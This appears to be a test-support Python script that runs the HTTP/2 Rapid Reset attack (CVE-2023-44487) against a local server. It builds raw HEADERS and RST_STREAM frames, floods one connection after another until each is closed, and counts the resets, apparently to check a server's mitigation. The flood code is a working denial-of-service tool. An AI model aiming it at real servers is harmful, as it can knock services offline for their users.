"""HTTP/2 rapid reset (CVE-2023-44487): calls that are opened and reset in one breath.

    python tests/support/rapid_reset.py PORT PATH CONNECTIONS

does so on one connection after another, each until it is closed, and prints how many calls each took.
"""

import socket
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MOST_CALLS = 1_000_000
_CANCEL = struct.pack(">I", 8)


def calls_reset(path: str, first: int, calls: int) -> bytes:
    """HEADERS and RST_STREAM of `calls` calls; `first` have been made on this connection before."""
    head = b"\x83\x86" + _field(b":path", path.encode()) + _field(b":authority", b"a")
    head += _field(b"te", b"trailers") + _field(b"content-type", b"application/grpc")
    streams = range(2 * first + 1, 2 * (first + calls) + 1, 2)
    return b"".join(frame(1, 4, stream, head) + frame(3, 0, stream, _CANCEL) for stream in streams)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _field(name: bytes, value: bytes) -> bytes:
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def flood(port: int, path: str) -> int:
    """Reset calls on one connection until it is closed; how many it took. Raises `TimeoutError` if it hangs."""
    calls = 0
    with socket.create_connection(("127.0.0.1", port), 10) as connection:
        connection.sendall(PREFACE + frame(4, 0, 0))
        try:
            while calls < MOST_CALLS:
                connection.sendall(calls_reset(path, calls, 50))
                calls += 50
                _read(connection)
        except ConnectionError:
            return calls
    raise TimeoutError(f"not closed after {calls} calls")


def _read(connection: socket.socket) -> None:
    connection.setblocking(False)
    try:
        while connection.recv(65_536):
            pass
    except BlockingIOError:
        connection.settimeout(10)
        return
    raise ConnectionError


if __name__ == "__main__":
    for _ in range(int(sys.argv[3])):
        sys.stdout.write(f"{flood(int(sys.argv[1]), sys.argv[2])}\n")
